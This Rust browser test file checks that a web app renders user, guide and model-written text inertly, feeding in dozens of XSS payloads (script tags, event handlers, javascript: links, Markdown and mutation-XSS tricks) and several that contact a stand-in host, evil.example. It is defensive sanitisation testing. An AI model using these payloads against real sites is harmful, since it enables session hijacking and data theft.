//! What a user, the guide or a model writes is text: nothing of it runs, nothing is fetched.
//!
//! Three oracles, since each is blind to something: `alert` and its like open a dialog; what runs leaves a mark in the
//! page; what the policy stopped, or what was asked of another host, is in the browser's own records. Nothing at all is
//! expected in the last one: a payload that only the policy stopped has become part of the page.

use crate::driver::Tab;
use crate::interview::sat;
use crate::stage::{GIL, Stage};
use viva_model_server::Answer;

/// What runs, each in another way. Shapes after OWASP's filter evasion cheat sheet and the advisories of sanitisers.
const RUNS: [&str; 26] = [
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/pixel.png>",
    "<svg/onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><script>pwned()</script></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\"></table></math>",
    "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/a)}</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
    "<template><img src=x onerror=pwned()></template>",
    "<x style=animation-name:x onanimationstart=pwned()>x</x>",
    "&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;",
];

/// The same, as Markdown has it.
const MARKDOWN: [&str; 16] = [
    "[a](javascript:pwned())",
    "[a](JaVaScRiPt:pwned())",
    "[a](java&#115;cript:pwned())",
    "[a](java\\script:pwned())",
    "[a](data:text/html,<script>pwned()</script>)",
    "[a](vbscript:pwned())",
    "[a](//evil.example/ \"x\\\" onmouseover=pwned()\")",
    "![a](//evil.example/pixel.png)",
    "![a](x\"onerror=\"pwned())",
    "![a][pixel] and [a][link]",
    "[pixel]: https://evil.example/pixel.png\n[link]: javascript:pwned()",
    "<javascript:pwned()> <https://evil.example/\"onmouseover=pwned()>",
    "`</code><img src=x onerror=pwned()>`",
    "```html\"><img src=x onerror=pwned()>\n</code></pre><script>pwned()</script>\n```",
    "| <img src=x onerror=pwned()> | [a](javascript:pwned()) |\n|---|---|\n| `<svg/onload=pwned()>` | **<b onclick=pwned()>** |",
    "```mermaid\nflowchart LR\n A[<img src=x onerror=pwned()>] --> B[\"</text><script>pwned()</script>\"]\n click A \"javascript:pwned()\"\n```",
];

/// What comes before, to break out of where it stands.
const ESCAPES: [&str; 8] = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "]]>"];

/// Leaves a mark where a payload runs.
const TRAP: &str = include_str!("scripts/trap.js");
/// What no page of ours has.
const FOREIGN: &str = include_str!("scripts/foreign.js");

fn payloads() -> Vec<String> {
    let html = RUNS.iter().flat_map(|run| ESCAPES.iter().map(move |escape| format!("{escape}{run}")));
    html.chain(MARKDOWN.iter().map(ToString::to_string)).collect()
}

/// Nothing ran, nothing was stopped, nothing was asked of anybody else; and nothing foreign is part of the page.
async fn is_untouched(stage: &Stage, tab: &Tab, what: &str) {
    // Whatever waits for the mouse or the focus gets it.
    let provoke = "for (const e of document.querySelectorAll('main *')) { e.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); if (e instanceof HTMLElement) HTMLElement.prototype.focus.call(e); }";
    tab.run(provoke).await;
    assert_eq!(tab.value(FOREIGN).await, serde_json::json!([]), "{what}");
    assert_eq!(tab.number("window.hits").await, 0.0, "{what}: {:?}", tab.seen());
    let seen = tab.seen();
    assert!(seen.dialogs.is_empty() && seen.console.is_empty(), "{what}: {seen:?}");
    let ours = stage.server.url("/");
    let asked: Vec<&String> = seen.requests.iter().filter(|url| !url.starts_with(&ours)).collect();
    assert!(asked.is_empty(), "{what}: {asked:?}");
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: .ci/run runs it; cargo test -p viva-tests --test browser -- --ignored"]
async fn what_a_model_writes_does_not_run() {
    let text = format!("The lock guards the interpreter [1].\n\n{}\n\nThe end [1].", payloads().join("\n\n"));
    println!("{} payloads", payloads().len());
    let said = text.clone();
    // A character at a time, so that each payload is cut at every place; then in one piece.
    let stage = Stage::generated(move |_| Answer::pieces(said.chars().map(String::from))).await;
    let tab = &stage.tab;
    tab.before_scripts(TRAP).await;
    tab.open("/").await;
    tab.forget();
    for number in [1, 2] {
        stage.sends(GIL).await;
        stage.answered(number).await;
        let shown = tab.text(&format!("#turn-{number} .answer")).await;
        for word in ["<img src=x onerror=pwned()>", "<svg/onload=pwned()>", "The end"] {
            assert!(shown.contains(word), "`{word}` is shown as text: {shown}");
        }
        is_untouched(&stage, tab, "streamed").await;
        let said = text.clone();
        stage.models().follow(move |_| Answer::text(&said).in_one_packet());
    }
    tab.reload().await;
    is_untouched(&stage, tab, "loaded").await;
    tab.open(&tab.text_of("find('#turn-1 a[href$=\"/inside\"]').getAttribute('href')").await).await;
    is_untouched(&stage, tab, "inside").await;
    stage.close().await;
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: .ci/run runs it; cargo test -p viva-tests --test browser -- --ignored"]
async fn what_a_user_writes_does_not_run() {
    let stage = Stage::extractive().await;
    let tab = &stage.tab;
    tab.before_scripts(TRAP).await;
    tab.open("/").await;
    tab.forget();
    let question = format!("{GIL} {}", payloads().join(" "));
    tab.click("#question").await;
    tab.write(&question).await;
    tab.click("[data-send]").await;
    stage.answered(1).await;
    is_untouched(&stage, tab, "question, streamed").await;
    tab.reload().await;
    is_untouched(&stage, tab, "question, loaded").await;
    assert!(tab.text("#turn-1 > h2").await.contains("<script>pwned()</script>"));
    let inside = tab.text_of("find('a[href$=\"/inside\"]').getAttribute('href')").await;
    let conversation = tab.path().await;
    tab.open(&inside).await;
    is_untouched(&stage, tab, "question, inside").await;

    // A title, cut to its length: one after the other.
    for run in RUNS.iter().step_by(3) {
        tab.open(&conversation).await;
        tab.click(".side li summary").await;
        tab.fill(".side details[open] input[name=title]", &format!("\">{run}")).await;
        tab.follow(".side details[open] button >> Rename").await;
        is_untouched(&stage, tab, "title").await;
    }
    // Addresses: the box, the searches, a page that is not there.
    let encoded = "encodeURIComponent(";
    for payload in ESCAPES.iter().map(|escape| format!("{escape}{}", RUNS[2])) {
        let text = tab.text_of(&format!("{encoded}{})", crate::driver::quoted(&payload))).await;
        for target in [
            format!("/?q={text}&find={text}"),
            format!("/guide?q={text}&level={text}&role={text}"),
            format!("/questions/{text}?{text}#{text}"),
        ] {
            tab.open(&target).await;
            // The browser itself notes a page that is not there.
            if target.starts_with("/questions") {
                tab.forget();
            }
            is_untouched(&stage, tab, &target).await;
        }
    }
    // An answer in an interview: in its feedback, its report and the progress.
    for page in sat(tab, &format!("It is the first point. {}", payloads().join(" "))).await {
        tab.open(&page).await;
        let words = tab.text_of("document.querySelector('main').textContent").await;
        assert!(words.contains("<script>pwned()</script>"), "{page} shows it as text: {words}");
        is_untouched(&stage, tab, &page).await;
    }
    tab.open("/review").await;
    is_untouched(&stage, tab, "progress").await;
    // Typed into the instant search.
    tab.open("/guide").await;
    tab.click("#q").await;
    tab.write(RUNS[2]).await;
    tab.sees("#results >> No question matches").await;
    is_untouched(&stage, tab, "instant search").await;
    stage.close().await;
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: .ci/run runs it; cargo test -p viva-tests --test browser -- --ignored"]
async fn what_the_guide_says_does_not_run() {
    let stage = Stage::with_guide(|guide| {
        let all = payloads().join("\n\n");
        let line = format!("{} {} {}", RUNS[2], RUNS[4], MARKDOWN[0]);
        let entry = viva_tests::entry("What is the GIL?", "the global interpreter lock", "locks")
            .replace("question: What is the GIL?", &format!("question: 'What is the GIL? {line}'"))
            .replace("aliases: [", &format!("aliases: ['{}', ", RUNS[2]))
            .replace("## Explanation\n", &format!("## Explanation\n{all}\n\n"))
            .replace("Third point", &format!("{line} third point"))
            .replace("### Why is there", &format!("### {line} why is there"))
            .replace("Because of history.", &format!("Because of {line}."));
        guide.write("09-concurrency/gil.md", &entry);
        let module = guide.read("09-concurrency/module.yaml");
        let module = module
            .replace("title: Concurrency", &format!("title: 'Concurrency {line}'"))
            .replace("summary: Threads", &format!("summary: '{line} threads"))
            .replace("And locks.", "And locks.'");
        guide.write("09-concurrency/module.yaml", &module);
        guide.write("notes/kafka.md", &format!("# Kafka {line}\n\n## Offsets {line}\n{all}\n\n## Lag\nLag is how far a consumer group is behind. {line}\n"));
        guide.write("notes/<img src=x onerror=pwned()>.md", "# A file\n\nIts name is not a tag either: consumer lag.\n");
    })
    .await;
    let tab = &stage.tab;
    tab.before_scripts(TRAP).await;
    stage.asks(GIL).await;
    assert!(tab.text("#turn-1 .sources").await.contains("<img src=x onerror=pwned()>"), "a title is text");
    is_untouched(&stage, tab, "answer").await;
    tab.click(".cite[data-n='2']").await;
    tab.sees(".panel").await;
    is_untouched(&stage, tab, "panel").await;
    let inside = tab.text_of("find('a[href$=\"/inside\"]').getAttribute('href')").await;
    let (_, listed) = stage.server.get("/api/v1/questions").await;
    let ids = listed["questions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|question| format!("/questions/{}", question["id"].as_str().unwrap()));
    let (_, modules) = stage.server.get("/api/v1/modules").await;
    let modules = modules["modules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|module| format!("/guide/{}", module["id"].as_str().unwrap()))
        .collect::<Vec<_>>();
    let mut pages =
        vec!["/".to_owned(), "/guide".to_owned(), "/guide?q=lock".to_owned(), "/status".to_owned(), inside];
    pages.extend(ids.chain(modules));
    assert!(pages.len() > 10, "{pages:?}");
    for page in pages {
        tab.open(&page).await;
        is_untouched(&stage, tab, &page).await;
    }
    stage.asks("how far is a consumer group behind?").await;
    is_untouched(&stage, tab, "plain text").await;
    stage.close().await;
}
